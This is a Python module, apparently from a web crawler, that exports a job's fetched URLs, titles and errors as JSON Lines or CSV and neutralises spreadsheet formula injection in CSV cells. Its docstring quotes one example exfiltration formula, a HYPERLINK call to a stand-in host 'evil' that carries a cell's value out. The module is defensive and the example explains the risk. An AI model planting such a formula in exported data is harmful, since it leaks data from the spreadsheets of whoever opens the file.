"""Write a job's results as JSON Lines or CSV, streaming from the database.

Page titles and URLs are other people's text. In CSV, a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is a formula to a spreadsheet
(``=HYPERLINK("http://evil/?"&A1)``): such cells get a leading apostrophe, as OWASP
advises, so the spreadsheet shows the text instead of running it. JSON Lines are left as
they are (no spreadsheet opens them as formulas).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from web.models import FrontierURL, URLState

FIELDS = [
    "url",
    "final_url",
    "status",
    "depth",
    "title",
    "content_type",
    "size",
    "fetched_at",
    "error",
]


def rows(job_id: int):
    """One dict per fetched, failed or parked URL of the job, in frontier order (a parked
    URL's error reads ``needs_review: <what the ban detector saw>``)."""
    ended = [URLState.DONE, URLState.FAILED, URLState.NEEDS_REVIEW]
    qs = (
        FrontierURL.objects.filter(job_id=job_id, state__in=ended)
        .order_by("id")
        .values_list(
            "url",
            "state",
            "depth",
            "http_status",
            "error_reason",
            "error_message",
            "page__final_url",
            "page__status",
            "page__title",
            "page__content_type",
            "page__size",
            "page__fetched_at",
        )
    )
    for (
        url,
        state,
        depth,
        status,
        reason,
        message,
        final,
        pstatus,
        title,
        ctype,
        size,
        when,
    ) in qs.iterator(chunk_size=2000):
        yield {
            "url": url,
            "final_url": final,
            "status": pstatus if pstatus is not None else status,
            "depth": depth,
            "title": title,
            "content_type": ctype,
            "size": size,
            "fetched_at": when.isoformat() if when else None,
            "error": None if final is not None else _error(state, reason, message),
        }


def _error(state: str, reason: str, message: str) -> str:
    if state == URLState.NEEDS_REVIEW:
        return f"needs_review: {message or reason}"
    return f"{reason}: {message}".strip(": ")


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A CSV cell a spreadsheet will show as text, never run as a formula."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def write(job_id: int, path: Path) -> int:
    """Write results to ``path`` (.jsonl or .csv by suffix); returns the number of rows."""
    count = 0
    with path.open("w", encoding="utf-8", newline="") as out:
        if path.suffix.lower() == ".csv":
            writer = csv.DictWriter(out, fieldnames=FIELDS)
            writer.writeheader()
            for row in rows(job_id):
                writer.writerow({k: neutralise(v) for k, v in row.items()})
                count += 1
        else:
            for row in rows(job_id):
                out.write(json.dumps(row, ensure_ascii=False) + "\n")
                count += 1
    return count
